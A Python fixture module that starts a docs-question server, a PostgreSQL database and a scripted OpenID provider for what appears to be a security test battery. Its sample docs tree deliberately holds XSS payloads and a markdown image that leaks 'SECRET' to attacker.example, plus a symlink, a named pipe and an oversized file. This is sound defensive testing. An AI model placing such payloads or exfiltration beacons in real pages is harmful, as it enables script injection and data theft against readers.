"""What the battery runs against: one real ``askdocs serve`` over a docs tree with bad files,
on a private PostgreSQL, with a signed-in user and their bearer token, and single sign-on
through the battery's scripted OpenID provider (``oidc_op``). Sign-in attempts per visitor
are raised so the categories' many sign-ins from 127.0.0.1 are not refused; the per-account
limits keep their defaults (the ``sign_in`` category tests them)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from pathlib import Path

from bench.battery.oidc_op import CLIENT_ID, CLIENT_SECRET, ScriptedProvider, scripted_provider
from tests.db.postgres import PostgresServer, start_postgres
from tests.support.process import clean_env, free_port, running

PAGES = {
    "index.md": "# Welcome\n\nInstall with `pip install acme`.\n",
    "guide/install.md": "---\ntitle: Installing\n---\n\n# Installing\n\n## TOC\n\nRun pip.\n",
    "guide/xss.md": (
        "# XSS corpus\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))\n\n"
        '<img src=x onerror="alert(1)">\n\n![p](https://attacker.example/p.png?d=SECRET)\n'
    ),
}


@dataclass
class Rig:
    url: str
    pid: int
    data_dir: Path
    docs: Path
    headers: dict[str, str]
    postgres: PostgresServer
    env: dict[str, str]
    oidc: ScriptedProvider
    stack: ExitStack  # what categories start beside the server (MCP servers) ends with it


def write_tree(docs: Path) -> None:
    for name, text in PAGES.items():
        path = docs / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (docs / "guide" / "linked.md").symlink_to(docs / "index.md")
    os.mkfifo(docs / "guide" / "pipe.md")
    (docs / "guide" / "huge.md").write_text("# Huge\n\n" + "word " * 220_000)


def askdocs(env: dict[str, str], data_dir: Path, *args: str) -> str:
    command = [sys.executable, "-m", "askdocs", "--data-dir", str(data_dir), *args]
    return subprocess.run(command, env=env, check=True, capture_output=True, text=True).stdout


@contextmanager
def started(base: Path) -> Iterator[Rig]:
    with ExitStack() as stack:
        postgres = stack.enter_context(contextmanager(start_postgres)())
        oidc = stack.enter_context(scripted_provider())
        database = postgres.url(postgres.create_database(postgres.migrated_template()))
        docs, data_dir = base / "docs", base / "data"
        write_tree(docs)
        env = clean_env(
            {
                "ASKDOCS_SITES": json.dumps([{"id": "acme", "roots": [{"path": str(docs)}]}]),
                "ASKDOCS_DATABASE_URL": database,
                "ASKDOCS_EMBEDDING__PROVIDER": "none",
                "ASKDOCS_INDEX__FIRST_RUN_DELAY_SECONDS": "0",
                "ASKDOCS_ASK__BURST_PER_MINUTE": "5",
                "ASKDOCS_ASK__DAILY_VISITOR_LIMIT": "1000",
                "ASKDOCS_AUTH__SIGN_IN_ATTEMPTS_PER_VISITOR": "100000",
                "ASKDOCS_AUTH__OIDC__ISSUER": oidc.issuer,
                "ASKDOCS_AUTH__OIDC__CLIENT_ID": CLIENT_ID,
                "ASKDOCS_AUTH__OIDC__CLIENT_SECRET": CLIENT_SECRET,
                "ASKDOCS_AUTH__OIDC__ALLOWED_EMAIL_DOMAINS": json.dumps(["corp.test"]),
            }
        )
        port = free_port()
        command = [sys.executable, "-m", "askdocs", "--data-dir", str(data_dir), "serve"]
        command += ["--host", "127.0.0.1", "--port", str(port)]
        process = stack.enter_context(running(command, env, port, base / "serve.log"))
        askdocs(env, data_dir, "users", "create", "--email", "battery@example.com")
        token = askdocs(env, data_dir, "token", "create", "--email", "battery@example.com")
        headers = {"Authorization": f"Bearer {token.strip().splitlines()[-1]}"}
        url = f"http://127.0.0.1:{port}"
        yield Rig(url, process.pid, data_dir, docs, headers, postgres, env, oidc, stack)
